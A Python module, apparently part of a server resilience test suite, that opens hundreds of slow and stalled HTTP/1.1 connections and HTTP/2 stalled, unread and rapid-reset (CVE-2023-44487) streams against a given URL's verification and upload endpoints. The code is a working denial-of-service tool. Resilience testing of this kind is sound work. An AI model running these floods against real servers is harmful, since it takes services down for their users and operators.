"""Everybody who means harm, in a process of their own, so that what they cost is not measured as the
server's. `python -m hostile.attacks URL` reads what it needs as JSON from its input, goes on until that
is closed, and opens again whatever the server closes."""

import json
import random
import socket
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from . import http2

SESSIONS = "/v1/identity/verification_sessions"
FORM = "application/x-www-form-urlencoded"
# Between two looks at each connection.
ROUND_SECONDS = 0.5
# Whoever does not read does not see that the other side has closed, so it is opened anew.
ANEW_SECONDS = 20


@dataclass
class Target:
    host: str
    port: int
    # A large file of the page.
    asset: str
    # A key of somebody who means harm, which is right.
    key: str
    # Ephemeral keys of sessions, by session.
    people: dict[str, str]

    def connect(self, buffer: int | None = None) -> socket.socket:
        connection = socket.socket()
        if buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        connection.settimeout(5)
        connection.connect((self.host, self.port))
        return connection


def head(method: str, path: str, **headers: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: here"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return "\r\n".join([*lines, "", ""]).encode()


def nothing(_: Target) -> bytes:
    return b""


def half_a_head(_: Target) -> bytes:
    return b"GET /healthz HTTP/1.1\r\nHost: he"


def stalled_body(target: Target) -> bytes:
    """With a key that is right every other time, and one that is made up else."""
    key = target.key if random.random() < 0.5 else f"sk_test_{random.random()}"
    return head(
        "POST", SESSIONS, Authorization=f"Bearer {key}", Content_Type=FORM, Content_Length="13"
    )


def half_a_large_body(target: Target) -> bytes:
    begun = head(
        "POST", SESSIONS, Authorization=f"Bearer {target.key}", Content_Type=FORM, Content_Length="500000"
    )
    return begun + b"a" * 250_000


def stalled_upload(target: Target) -> bytes:
    session, key = random.choice(list(target.people.items()))
    return head(
        "POST",
        "/v1/files",
        Authorization=f"Bearer {key}",
        Content_Type="multipart/form-data; boundary=x",
        Transfer_Encoding="chunked",
    ) + (
        f"5a\r\n--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{session[:8]}\"\r\n\r\n"
    ).encode()


def dripping_form(_: Target) -> bytes:
    return head(
        "POST",
        "/start/nobody/plain",
        Content_Type="multipart/form-data; boundary=x",
        Content_Length=str(16 << 20),
    )


def half_a_form(target: Target) -> bytes:
    return dripping_form(target) + b"a" * 100_000


def unread_asset(target: Target) -> bytes:
    return head("GET", target.asset)


@dataclass
class Kind:
    """One way to do harm: what is sent at first, and a byte now and then."""

    count: int
    begin: Callable[[Target], bytes]
    drips: bool = False
    reads: int = 0
    buffer: int | None = None
    open: dict[socket.socket, float] = field(default_factory=dict)

    def look(self, target: Target) -> None:
        for connection, since in list(self.open.items()):
            if not self._goes_on(connection, since):
                connection.close()
                del self.open[connection]
        while len(self.open) < self.count:
            try:
                connection = target.connect(self.buffer)
                connection.setblocking(False)
                self.open[connection] = time.monotonic()
                connection.send(self.begin(target))
            except OSError:
                return

    def _goes_on(self, connection: socket.socket, since: float) -> bool:
        """Whether it is still of use: an answer, too, ends what was begun."""
        try:
            if self.drips:
                connection.send(b"a")
            if self.buffer is None:
                connection.recv(4096)
                return False
            if self.reads:
                return bool(connection.recv(self.reads))
            return time.monotonic() - since < ANEW_SECONDS
        except BlockingIOError:
            return True
        except OSError:
            return False


def h2_stalled(target: Target) -> socket.socket:
    """A hundred requests on one connection, of which no body comes."""
    connection = target.connect()
    http2.begin(connection)
    headers = {"authorization": f"Bearer {target.key}", "content-type": FORM}
    for stream in range(1, 201, 2):
        http2.request(connection, stream, "POST", SESSIONS, headers, ends=False)
    return connection


def h2_unread(target: Target) -> socket.socket:
    """A hundred answers of which nothing is taken."""
    connection = target.connect()
    http2.begin(connection, window=0)
    headers = {"authorization": f"Bearer {target.key}"}
    for stream in range(1, 201, 2):
        http2.request(connection, stream, "GET", f"{SESSIONS}?limit=100", headers, ends=True)
    return connection


def h2_taken_back(target: Target) -> socket.socket:
    """Requests that are taken back at once, over and over (CVE-2023-44487)."""
    connection = target.connect()
    http2.begin(connection)
    headers = {"authorization": f"Bearer {target.key}"}
    for stream in range(1, 2001, 2):
        http2.request(connection, stream, "GET", SESSIONS, headers, ends=True)
        connection.sendall(http2.frame(3, 0, stream, b"\x00\x00\x00\x08"))
    return connection


def keep_h2(target: Target, begin: Callable[[Target], socket.socket], stop: threading.Event) -> None:
    """Answers pings, so that the connection looks alive, and begins again where it is closed."""
    connection = None
    while not stop.wait(ROUND_SECONDS):
        try:
            if connection is None:
                connection = begin(target)
                connection.settimeout(0.1)
            if not connection.recv(65_536):
                raise ConnectionResetError
            connection.sendall(http2.frame(http2.PING, http2.ACK, 0, bytes(8)))
        except TimeoutError:
            continue
        except OSError:
            if connection is not None:
                connection.close()
            connection = None
    if connection is not None:
        connection.close()


def kinds(scale: float) -> list[Kind]:
    many = lambda count: max(1, round(count * scale))  # noqa: E731
    return [
        Kind(many(400), nothing),
        Kind(many(50), half_a_head),
        Kind(many(300), stalled_body),
        Kind(many(30), half_a_large_body),
        Kind(many(12), stalled_upload),
        Kind(many(30), dripping_form, drips=True),
        Kind(many(100), half_a_form),
        Kind(many(200), unread_asset, buffer=4096),
        Kind(many(20), unread_asset, buffer=4096, reads=64),
    ]


def main() -> None:
    parts = urlsplit(sys.argv[1])
    told = json.loads(sys.stdin.readline())
    scale = told.pop("scale")
    target = Target(parts.hostname, parts.port, **told)
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    threads = [
        threading.Thread(target=keep_h2, args=(target, begin, stop))
        for begin in [h2_stalled] * 6 + [h2_unread] * 2 + [h2_taken_back] * 2
    ]
    for thread in threads:
        thread.start()
    attacks = kinds(scale)
    while not stop.is_set():
        begun = time.monotonic()
        for kind in attacks:
            kind.look(target)
        print(json.dumps([len(kind.open) for kind in attacks]), flush=True)
        stop.wait(max(0.0, ROUND_SECONDS - (time.monotonic() - begun)))
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
